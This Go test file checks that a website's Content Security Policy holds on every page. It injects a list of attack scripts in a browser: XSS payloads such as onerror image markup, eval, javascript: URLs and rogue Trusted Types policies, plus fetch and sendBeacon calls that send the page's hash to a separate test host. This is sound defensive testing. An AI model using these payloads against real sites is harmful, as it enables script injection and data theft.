package main

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"postage/app/pages"
)

// What an attacker who had got a foot into a page could still do there: nothing.

// attacks are tried on every page. Each is a function body that is given the
// address of another site and may throw; whether it succeeded shows in
// window.hacked, or in what the other site is asked for.
var attacks = []struct{ name, script string }{
	{"an inline script", `const s = document.createElement("script"); s.append("window.hacked = 'script'"); document.head.append(s);`},
	{"a script's text", `const s = document.createElement("script"); s.text = "window.hacked = 'text'"; document.head.append(s);`},
	{"a script from elsewhere", `const s = document.createElement("script"); s.src = other + "script.js"; document.head.append(s);`},
	{"a script as data", `const s = document.createElement("script"); s.src = "data:text/javascript,window.hacked='data'"; document.head.append(s);`},
	{"a script of this site that is none of its scripts", `const s = document.createElement("script"); s.src = location.origin + "/manifest.webmanifest"; document.head.append(s);`},
	{"a module from elsewhere", `return import(other + "module.js");`},
	{"markup", `document.body.insertAdjacentHTML("beforeend", "<img src=\"data:,\" onerror=\"window.hacked='markup'\">");`},
	{"inner markup", `const d = document.createElement("div"); document.body.append(d); d.innerHTML = "<img src=\"data:,\" onerror=\"window.hacked='inner'\">";`},
	{"document.write", `document.write("<script>window.hacked='write'</" + "script>");`},
	{"a fragment", `document.body.append(document.createRange().createContextualFragment("<img src=\"data:,\" onerror=\"window.hacked='fragment'\">"));`},
	{"a frame's document", `const f = document.createElement("iframe"); f.srcdoc = "<script>parent.hacked='srcdoc'</" + "script>"; document.body.append(f);`},
	{"a handler", `const b = document.createElement("button"); b.setAttribute("onclick", "window.hacked = 'handler'"); document.body.append(b); b.click();`},
	{"eval", `(0, eval)("window.hacked = 'eval'");`},
	{"a new function", `new Function("window.hacked = 'function'")();`},
	{"a timer with text", `setTimeout("window.hacked = 'timer'");`},
	{"a javascript address", `const a = document.createElement("a"); a.href = "javascript:void(window.hacked='address')"; document.body.append(a); a.click();`},
	{"another policy for types", `trustedTypes.createPolicy("loose", { createHTML: (s) => s, createScript: (s) => s }); window.hacked = "policy";`},
	{"a second default policy", `trustedTypes.createPolicy("default", { createHTML: (s) => s, createScript: (s) => s }); window.hacked = "default policy";`},
	{"a worker from text", `new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage = () => { window.hacked = "worker"; };`},
	{"a style attribute", `const d = document.createElement("div"); d.setAttribute("style", "position: fixed"); document.body.append(d); if (getComputedStyle(d).position === "fixed") window.hacked = "style attribute";`},
	{"a style element", `const d = document.createElement("div"), s = document.createElement("style"); s.append("div { position: fixed !important }"); document.head.append(s); document.body.append(d); if (getComputedStyle(d).position === "fixed") window.hacked = "style";`},
	{"a style sheet from elsewhere", `const l = document.createElement("link"); l.rel = "stylesheet"; l.href = other + "style.css"; document.head.append(l);`},
	{"a picture from elsewhere", `new Image().src = other + "picture.png";`},
	{"a font from elsewhere", `return new FontFace("f", "url(" + other + "font.woff2)").load();`},
	{"a sound from elsewhere", `new Audio(other + "sound.mp3").load();`},
	{"fetch", `return fetch(other + "fetch", { mode: "no-cors", method: "POST", body: location.hash });`},
	{"an XMLHttpRequest", `const x = new XMLHttpRequest(); x.open("GET", other + "xhr"); x.send();`},
	{"a beacon", `navigator.sendBeacon(other + "beacon", location.hash);`},
	{"a socket", `new WebSocket(other.replace("http", "ws") + "socket");`},
	{"events", `new EventSource(other + "events");`},
	{"a frame", `const f = document.createElement("iframe"); f.src = other + "frame"; document.body.append(f);`},
	{"an object", `const o = document.createElement("object"); o.data = other + "object"; document.body.append(o);`},
	{"a base", `const b = document.createElement("base"); b.href = other; document.head.prepend(b); if (new URL("x", document.baseURI).href.startsWith(other)) window.hacked = "base"; b.remove();`},
	{"a form", `const f = document.createElement("form"); f.action = other + "form"; f.method = "post"; document.body.append(f); HTMLFormElement.prototype.submit.call(f);`},
	{"a manifest from elsewhere", `const l = document.createElement("link"); l.rel = "manifest"; l.href = other + "manifest"; document.head.append(l);`},
}

func TestThePolicyHoldsOnEveryPage(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var asked []string
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		asked = append(asked, r.Method+" "+r.URL.Path)
		mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Content-Type", "text/javascript")
		w.Write([]byte("window.hacked = 'elsewhere';"))
	}))
	t.Cleanup(other.Close)

	// The header of our own server is taken away: what the page says of itself
	// must hold on any host.
	site := startSite(t, builtSite(t, "/", testDate), "/")
	site.hostedBy(func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			next.ServeHTTP(&changedHeader{ResponseWriter: w, change: func(h http.Header) { h.Del("Content-Security-Policy") }}, r)
		})
	})
	tab := newTab(t, 800, 600)
	tab.expect("Content Security Policy", "TrustedHTML", "TrustedScript", "Trusted", "csp", "BLOCKED", "request failed", "manifest", "404", "Refused")
	// A policy holds for what stands behind it. Of the pages with the same one, the first is
	// attacked.
	attacked := map[string]string{}
	var paths []string
	tree := readTree(t, *site.dir.Load())
	for _, page := range append([]pages.Page{{Path: "/404.html"}}, pages.Pages()...) {
		name := strings.TrimPrefix(page.Path, "/")
		if page.Path != "/404.html" {
			name += "index.html"
		}
		before, after, _ := strings.Cut(string(tree[name]), `<meta http-equiv="Content-Security-Policy" content="`)
		policy, _, found := strings.Cut(after, `"`)
		if !found || strings.Count(before, "<") != strings.Count(`<!doctype html><html><head><meta charset>`, "<") {
			t.Errorf("%s has no policy, or something before it: %s", page.Path, before)
		}
		if attacked[policy] == "" {
			attacked[policy] = page.Path
			paths = append(paths, page.Path)
		}
	}
	if len(paths) != 3 { // without a program, with one, and with a frame in it
		t.Errorf("there are %d policies, on %q", len(paths), paths)
	}
	for _, page := range paths {
		tab.goTo(site.url(page))
		if page != "/404.html" {
			tab.waitLive()
		}
		succeeded := evaluate[[]string](tab, `(async () => {
			const other = `+quoted(other.URL+"/")+`;
			const succeeded = [];
			const attacks = [`+asFunctions()+`];
			for (const [name, attack] of attacks) {
				delete window.hacked;
				try {
					await Promise.race([attack(other), new Promise((resolve) => setTimeout(resolve, 200))]);
				} catch {}
				// What the attack has set going gets its turn.
				await new Promise((resolve) => setTimeout(resolve));
				await new Promise((resolve) => requestAnimationFrame(resolve));
				if (window.hacked) succeeded.push(name + " (" + window.hacked + ")");
			}
			return succeeded;
		})()`)
		if len(succeeded) > 0 {
			t.Errorf("%s gives way to %s", page, strings.Join(succeeded, ", "))
		}
		if got := evaluate[string](tab, `location.pathname`); got != page {
			t.Errorf("%s was led away to %s", page, got)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if len(asked) > 0 {
		t.Errorf("the other site was asked for %q", asked)
	}
}

// asFunctions writes the attacks as pairs of a name and a function.
func asFunctions() string {
	var b strings.Builder
	for _, attack := range attacks {
		b.WriteString("[" + quoted(attack.name) + ", async (other) => {" + attack.script + "}],\n")
	}
	return b.String()
}

// TestTheAttacksWorkWithoutThePolicy keeps the attacks honest: where nothing
// stands in the way, nearly all of them do succeed.
func TestTheAttacksWorkWithoutThePolicy(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	asked := map[string]bool{}
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		asked[r.URL.Path] = true
		mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Content-Type", "text/javascript")
		w.Write([]byte("window.hacked = 'elsewhere';"))
	}))
	t.Cleanup(other.Close)
	site := startSite(t, builtSite(t, "/", testDate), "/")
	site.extra.Store("/open.html", `<!doctype html><title>open</title><p>open</p>`)
	tab := newTab(t, 800, 600)
	tab.expect("favicon", "404", "request failed", "answer", "WebSocket", "EventSource", "console", "browser", "exception")
	tab.goTo(site.url("/open.html"))
	works := []string{
		"an inline script", "a script's text", "a script from elsewhere", "a script as data", "a module from elsewhere", "markup",
		"inner markup", "a fragment", "a frame's document", "a handler", "eval", "a new function", "a timer with text",
		"a javascript address", "another policy for types", "a second default policy", "a worker from text", "a style attribute", "a style element",
	}
	tab.do(`window.attacks = new Map([` + asFunctions() + `]); attacks.size`)
	for _, attack := range attacks {
		// Those that would lead the page away are left out here.
		if strings.Contains(attack.name, "document.write") || strings.Contains(attack.name, "form") || strings.Contains(attack.name, "base") {
			continue
		}
		tab.do(`delete window.hacked; void attacks.get(` + quoted(attack.name) + `)(` + quoted(other.URL+"/") + `).catch(() => {})`)
		if slices.Contains(works, attack.name) {
			tab.waitFor(`window.hacked`)
		}
	}
	// What they ask for comes when the browser sees fit.
	deadline := time.NewTimer(patience)
	defer deadline.Stop()
	look := time.NewTicker(20 * time.Millisecond)
	defer look.Stop()
	for {
		mu.Lock()
		missing := slices.DeleteFunc([]string{"/script.js", "/module.js", "/style.css", "/picture.png", "/fetch", "/xhr", "/beacon", "/events", "/frame", "/object", "/font.woff2"},
			func(path string) bool { return asked[path] })
		mu.Unlock()
		if len(missing) == 0 {
			return
		}
		select {
		case <-look.C:
		case <-deadline.C:
			t.Fatalf("%q are not asked for even without a policy", missing)
		}
	}
}

// TestNothingIsAskedOfOthers visits the pages with most to press, opens and presses it, one
// of each kind, the buttons first, and looks where requests went. The tab of every test fails
// for every request to another host; this one wants every request within the site.
// TestNothingLeavesWhileAListIsWorked and TestNothingLeavesWhileABillIsChecked count those of
// the pages with a list and with a bill.
func TestNothingIsAskedOfOthers(t *testing.T) {
	t.Parallel()
	site := startSite(t, builtSite(t, "/", testDate), "/")
	tab := newTab(t, 800, 600)
	// What a press may open or do beside the page is of no interest here.
	tab.before(`window.open = () => null; window.print = () => {}; navigator.share = () => Promise.resolve(); window.confirm = () => true; window.prompt = () => null;
		HTMLAnchorElement.prototype.click = function () { this.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true })); };`)
	for _, page := range pages.Pages() {
		if page.Lang != pages.Languages()[0] || page.Frame || page.Static || page.File() {
			continue // without a program there is little more than links
		}
		tab.open(site.url(page.Path))
		tab.do(`
			addEventListener("click", (event) => { if (event.target.closest("a")) event.preventDefault(); }, true);
			for (const details of document.querySelectorAll("details")) details.open = true;
			const rest = () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
			const seen = new Set();
			const pressNext = async () => {
				await rest();
				// Of choices that go by one name, and of buttons that say the same, one is enough.
				const name = (e) => e.tagName + ((e.name || e.textContent.trim() || e.id).replace(/[0-9]+/g, "").slice(0, 40));
				const next = ["main button, .states button", "main input[type=radio], main input[type=checkbox], main select"].flatMap((some) => [...document.querySelectorAll(some)]).find((e) => !seen.has(name(e)) && e.checkVisibility());
				if (!next) return false;
				seen.add(name(next));
				if (next instanceof HTMLSelectElement) { next.selectedIndex = next.options.length - 1; next.dispatchEvent(new Event("change", { bubbles: true })); }
				else next.click();
				await rest();
				return true;
			};
			window.press = async (most) => {
				let pressed = 0;
				while (pressed < most && await pressNext()) pressed++;
				return pressed;
			};`)
		const most = 10
		if pressed := evaluate[int](tab, fmt.Sprintf(`press(%d)`, most)); pressed < most {
			t.Errorf("%s has only %d things to press", page.Path, pressed)
		}
	}
	for _, address := range tab.requested() {
		if !strings.HasPrefix(address, site.url("/")) && !strings.HasPrefix(address, "data:") && !strings.HasPrefix(address, "blob:") {
			t.Errorf("a request leaves the site: %s", address)
		}
	}
}
